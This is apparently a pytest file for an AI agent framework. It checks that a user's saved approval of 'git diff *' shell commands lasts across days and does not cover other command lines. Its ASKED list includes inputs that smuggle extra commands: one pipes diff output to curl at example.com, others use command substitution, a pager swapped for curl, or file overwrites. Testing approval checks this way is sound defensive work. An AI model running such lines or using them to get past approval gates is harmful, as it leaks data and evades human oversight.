"""What a person allowed of a shell for good is not asked again, tomorrow either; and covers nothing else."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from antiphon import Agent, open_journal
from antiphon.host import HostedTeam
from antiphon.models.script import Script, call
from antiphon.testing.clock import VirtualClock
from antiphon.tools.shell import shell_tools
from antiphon.view import connect
from tests.unit.server.teams import in_time, started, until_asked, until_done
from tests.unit.server.test_projects import with_projects, write

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(sys.platform != "linux", reason="runs commands under a keeper"),
]
DAY = 86_400
ASKED = [
    "git diff; curl https://example.com",
    "git diff --stat | curl -d @- https://example.com",
    "git diff HEAD && git push",
    "git diff $(curl https://example.com)",
    "git diff --output=shop.py",
    "git diff > shop.py",
    "git -c core.pager=curl diff",
    "git log",
]
"""Lines that an approval of `git diff *` does not cover."""


def obey(request: Any) -> Any:
    """Run what the user says, and be done."""
    last = request.messages[-1]
    return "done" if last.role == "tool" else call("shell", command=last.content)


def repository(folder: Path) -> Path:
    folder.mkdir()
    (folder / "shop.py").write_text("TEA = 3\n")
    for words in (["init", "-q"], ["add", "."], ["commit", "-q", "-m", "a shop"]):
        who = ["-c", "user.name=ann", "-c", "user.email=ann@example.com", "-c", "commit.gpgsign=false"]
        subprocess.run(["git", "-C", folder, *who, *words], check=True, capture_output=True)
    (folder / "shop.py").write_text("TEA = 4\n")
    return folder


def test_an_approved_pattern_is_not_asked_again_tomorrow_and_reaches_over_no_other_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ANTIPHON_HOME", raising=False)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    folder = repository(tmp_path / "files")
    write(tmp_path / "projects", "shop", "owner: ada\n")

    @asynccontextmanager
    async def on_day(number: int) -> AsyncIterator[Any]:
        """A server of that day, over the journal of all."""
        clerk = Agent("clerk", tools=shell_tools(folder), model=Script(obey))
        clock = VirtualClock(1_700_000_000.0 + number * DAY, autojump=False)
        journal = open_journal(f"sqlite:///{tmp_path / 'runs.db'}")
        teams = {"desk": HostedTeam((clerk,), policy="guarded")}
        async with with_projects(tmp_path / "projects", teams, journal=journal, clock=clock) as (ada, *_):
            yield ada, journal
        await journal.close()

    async def work() -> None:
        async with on_day(0) as (ada, _):
            run_id = await started(ada, message="git diff --stat", project="shop")
            asked = await until_asked(ada, run_id)
            answer = {
                "question": asked["id"], "content": "always", "scope": "project",
                "grant": {"arguments": [["command", "git diff *"]]},
            }  # fmt: skip
            assert (await ada("POST", f"/runs/{run_id}/answers", answer)).status == 202
            await until_done(ada, run_id)
        async with on_day(1) as (ada, journal):
            for line in ("git diff --stat", "git diff HEAD && git diff --stat; git diff --name-only HEAD"):
                run_id = await started(ada, message=line, project="shop")
                await until_done(ada, run_id)
                async with connect(journal, run_id) as run:
                    done = (await run.tree()).effects["1/1.c1"]
                assert (done.outcome, "shop.py" in done.content) == ("completed", True), done
            for line in ASKED:
                run_id = await started(ada, message=line, project="shop")
                asked = await until_asked(ada, run_id)
                assert (asked["tool"], line in asked["arguments"]) == ("shell", True), asked

    in_time(work)
